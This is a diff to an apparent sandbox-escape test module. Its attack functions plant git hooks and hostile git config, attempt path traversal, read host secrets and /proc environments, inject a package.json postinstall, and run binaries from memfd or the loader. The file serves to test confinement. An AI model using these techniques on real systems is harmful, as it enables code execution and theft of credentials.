@@ -1,14 +1,13 @@
 """Attacks on files, git and results: F of the list. What is planted here is judged outside, after the sandbox's end."""
 
 # mypy: ignore-errors
-# ruff: noqa: PTH101, PTH102, PTH103, PTH104, PTH105, PTH107, PTH108, PTH110, PTH112, PTH114, PTH115, PTH118, PTH120, PTH123, PTH207, PTH208, PTH211, ANN001, ANN201, D103, S103, S108, SIM115
+# ruff: noqa: PTH101, PTH103, PTH104, PTH108, PTH110, PTH120, PTH208, PTH211, SIM115
 import contextlib
 import ctypes
 import io
 import os
 import socket
 import subprocess
-import sys
 import tarfile
 import time
 import zipfile
@@ -56,7 +55,13 @@ def git(*argv):
 @attack("F01")
 def climb(report, case):
     target = victim(case)
-    for path in (target, f"{TREE}/../..{target}", f"{TREE}/./../{target}", f"/tmp/..{target}", f"/proc/self/cwd/../..{target}"):
+    for path in (
+        target,
+        f"{TREE}/../..{target}",
+        f"{TREE}/./../{target}",
+        f"/tmp/..{target}",
+        f"/proc/self/cwd/../..{target}",
+    ):
         spoil(report, path, case)
     for path in ("/usr/bin/vestibule-x", "/etc/vestibule-x", "/x", "/boot/x"):
         with report.trying(path):
@@ -90,7 +95,14 @@ def hard_links(report, case):
 
 @attack("F05")
 def hooks(report, case):
-    for hook in ("pre-commit", "post-checkout", "post-commit", "post-merge", "reference-transaction", "fsmonitor-watchman"):
+    for hook in (
+        "pre-commit",
+        "post-checkout",
+        "post-commit",
+        "post-merge",
+        "reference-transaction",
+        "fsmonitor-watchman",
+    ):
         script(case, f".git/hooks/{hook}")
     report.how("planted")
 
@@ -102,7 +114,7 @@ def configuration(report, case):
     with report.trying():
         write(
             ".git/config",
-            f"[core]\n\tfsmonitor = {outside}\n\thooksPath = {GIVEN['workspace_outside']}/src\n\tsshCommand = {outside}\n"
+            f"[core]\n\tfsmonitor = {outside}\n\thooksPath = {os.path.dirname(outside)}\n\tsshCommand = {outside}\n"
             f"\tpager = {outside}\n\teditor = {outside}\n\tattributesFile = {outside}\n"
             f"[alias]\n\tstatus = !{outside}\n[diff]\n\texternal = {outside}\n[gpg]\n\tprogram = {outside}\n"
             f"[include]\n\tpath = {program}\n",
@@ -165,7 +177,9 @@ def control_files(report, _):
 def files_that_people_start(report, _):
     for place in STARTED_BY_PEOPLE:
         with report.trying(place):
-            write(place, '{"scripts": {"postinstall": "evil"}}\n' if place == "package.json" else "evil: x\n\techo evil\n")
+            write(
+                place, '{"scripts": {"postinstall": "evil"}}\n' if place == "package.json" else "evil: x\n\techo evil\n"
+            )
 
 
 @attack("F13")
@@ -198,7 +212,9 @@ def secrets_of_the_host(report, _):
     for path in GIVEN["secrets"]:
         with report.trying(path):
             report.heard(open(path).read())
-    for path in (f"/proc/{pid}/{item}" for pid in os.listdir("/proc") if pid.isdigit() for item in ("environ", "cmdline")):
+    for path in (
+        f"/proc/{pid}/{item}" for pid in os.listdir("/proc") if pid.isdigit() for item in ("environ", "cmdline")
+    ):
         with contextlib.suppress(OSError):
             report.heard(open(path, "rb").read())
     report.heard(" ".join(os.environ.values()))
@@ -241,32 +257,27 @@ def archives(report, case):
 @attack("F18")
 def names_that_steer(report, _):
     for name in ("line\nbreak", "esc\x1b[31mred", "bell\x07", "::set-output name=x::y", "bidi\u202etxt", "\x9b31m"):
-        with report.trying(repr(name)):
-            with open(f"{TREE}/src/{name}", "w") as file:
-                file.write("x\n")
+        with report.trying(repr(name)), open(f"{TREE}/src/{name}", "w") as file:
+            file.write("x\n")
 
 
 @attack("F20", "P15")
 def code_without_a_name(report, case):
-    program = f"import sys; sys.path.insert(0, {os.path.dirname(os.path.abspath(__file__))!r})\n"
-    program += f"print(open({GIVEN['secret']!r}).read())"
-    with open(os.path.realpath(sys.executable), "rb") as file:
+    with open("/usr/bin/cat", "rb") as file:
         data = file.read()
     if case == "F20":
         fd = os.memfd_create("x", 0)
-        os.write(fd, data[:0])
         with open(f"/proc/self/fd/{fd}", "wb") as file:
             file.write(data)
-        argv = [f"/proc/self/fd/{fd}"]
-        passed = (fd,)
+        argv, passed = [f"/proc/self/fd/{fd}"], (fd,)
     else:
         with open("/tmp/renamed", "wb") as file:
             file.write(data)
-        os.chmod("/tmp/renamed", 0o755)
-        loader = next((path for path in ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1") if os.path.exists(path)))
-        argv, passed = [loader, "/tmp/renamed"], ()
-    environment = {**os.environ, "PYTHONHOME": sys.base_prefix, "LD_LIBRARY_PATH": sys.base_prefix + "/lib"}
-    done = subprocess.run([*argv, "-I", "-S", "-c", program], capture_output=True, check=False, pass_fds=passed, env=environment)
+        loaders = ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1")
+        argv, passed = [next(path for path in loaders if os.path.exists(path)), "/tmp/renamed"], ()
+    done = subprocess.run([*argv, "/etc/hostname", GIVEN["secret"]], capture_output=True, check=False, pass_fds=passed)
+    if not done.stdout:
+        report.gained("nothing, for it did not run")
     report.how(f"exit {done.returncode} {done.stderr.decode()[-80:]}")
     report.heard(done.stdout)
 
